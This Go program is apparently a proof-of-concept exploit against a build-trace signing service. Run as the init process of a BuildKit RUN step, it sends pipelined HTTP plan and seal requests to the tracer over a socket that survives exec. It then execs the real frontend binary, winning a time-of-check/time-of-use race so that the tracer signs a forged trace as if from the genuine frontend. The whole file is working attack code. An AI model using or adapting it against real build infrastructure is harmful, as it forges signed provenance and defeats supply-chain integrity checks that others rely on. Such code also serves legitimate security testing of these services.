// toctou is the init process of a RUN step of a stock-frontend build whose
// ENV names BUILDKIT_SESSION_ID and BUILDKIT_EXPORTEDPRODUCT, so its OCI
// bundle looks like a gateway frontend's. It writes pipelined plan and seal
// requests for its build to the tracer on a socket that survives exec, then
// execs a copy of the real buildtrace frontend binary (/fe): a tracer that
// identifies the caller by what the process runs when it handles the
// requests would sign the trace for the real frontend.
//
// Usage (exec form RUN): ["/toctou", "127.0.0.1:7390"]
package main

import (
	"fmt"
	"net/netip"
	"os"
	"os/exec"
	"strings"
	"syscall"
)

func die(f string, a ...any) {
	fmt.Fprintf(os.Stderr, "toctou: "+f+"\n", a...)
	os.Exit(1)
}

func main() {
	if len(os.Args) != 2 {
		die("usage: toctou TRACER-ADDR")
	}
	tracer, err := netip.ParseAddrPort(os.Args[1])
	if err != nil || !tracer.Addr().Is4() {
		die("tracer address %q: %v", os.Args[1], err)
	}
	tp := strings.Split(os.Getenv("TRACEPARENT"), "-")
	if len(tp) != 4 {
		die("no TRACEPARENT in the environment")
	}
	id := tp[1]
	fmt.Printf("toctou trace=%s\n", id)
	plan := `{"id":"p1","platform":"linux/amd64","layers":[],"steps":[]}`
	seal := `{"wait":"1s","results":{"linux/amd64":"p1"}}`
	var req strings.Builder
	// Padding: each plan request is handled (and its caller looked up)
	// before the seal, which the tracer reaches after the exec.
	for i := 0; i < 30; i++ {
		fmt.Fprintf(&req, "POST /v1/builds/%s/plan HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: %d\r\n\r\n%s", id, len(plan), plan)
	}
	fmt.Fprintf(&req, "POST /v1/builds/%s/seal HTTP/1.1\r\nHost: x\r\nConnection: close\r\nContent-Length: %d\r\n\r\n%s", id, len(seal), seal)

	// The exec'd frontend's stdin: a pipe whose write end a child holds
	// open, so the frontend blocks (and keeps running /fe) while the
	// tracer handles the requests. The child is started before the socket
	// exists, so the frontend is the socket's only holder.
	r, w, err := os.Pipe()
	if err != nil {
		die("pipe: %v", err)
	}
	holder := exec.Command("/bin/sleep", "6")
	holder.ExtraFiles = []*os.File{w}
	if err := holder.Start(); err != nil {
		die("starting the pipe holder: %v", err)
	}
	w.Close()

	fd, err := syscall.Socket(syscall.AF_INET, syscall.SOCK_STREAM, 0) // no CLOEXEC: survives exec
	if err != nil {
		die("socket: %v", err)
	}
	if err := syscall.Connect(fd, &syscall.SockaddrInet4{Port: int(tracer.Port()), Addr: tracer.Addr().As4()}); err != nil {
		die("connect: %v", err)
	}
	b := []byte(req.String())
	for len(b) > 0 {
		n, err := syscall.Write(fd, b)
		if err != nil {
			die("write: %v", err)
		}
		b = b[n:]
	}
	if err := syscall.Dup2(int(r.Fd()), 0); err != nil {
		die("dup2: %v", err)
	}
	fmt.Println("requests written; exec the real frontend binary")
	err = syscall.Exec("/fe", []string{"/fe"}, os.Environ())
	die("exec /fe: %v", err)
}
